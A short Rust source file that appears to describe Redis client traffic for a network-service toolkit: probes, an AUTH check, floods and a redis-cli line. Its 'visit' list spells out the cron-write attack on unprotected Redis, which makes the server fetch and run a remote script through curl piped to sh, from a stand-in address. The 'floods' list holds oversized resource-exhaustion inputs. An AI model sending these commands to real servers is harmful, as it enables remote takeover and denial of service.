//! How clients talk to Redis.

use netsvc_kit::declared::{Flood, Step, Talks};

/// See [`Talks`].
pub(super) const TALKS: Talks = Talks {
    stream: &[Step::Say(b"*2\r\n$4\r\nECHO\r\n$16\r\n{nonce}\r\n"), Step::line("a reply", &[b"$", b"-"])],
    login: &[Step::Say(b"AUTH {nonce}\r\n"), Step::line("a refusal", &[b"-"])],
    visit: &[
        b"INFO server\r\n",
        b"CONFIG SET dir /var/spool/cron/\r\n",
        b"CONFIG SET dbfilename root\r\n",
        b"SET x \"\\n*/2 * * * * curl -fsSL http://198.51.100.7/init.sh | sh\\n\"\r\n",
        b"SAVE\r\n",
    ],
    dialogues: &[b"*1\r\n$4\r\nPING\r\nECHO hi\r\n"],
    floods: &[
        Flood { name: "a bulk", head: b"*2\r\n$3\r\nGET\r\n$8388608\r\n", unit: b"A" },
        Flood { name: "many bulks", head: b"*1048576\r\n", unit: b"$1\r\nA\r\n" },
        Flood { name: "inline commands", head: b"", unit: b"PING\r\n" },
    ],
    client: "redis-cli -h {ip} -p {port} info",
    ..Talks::NONE
};
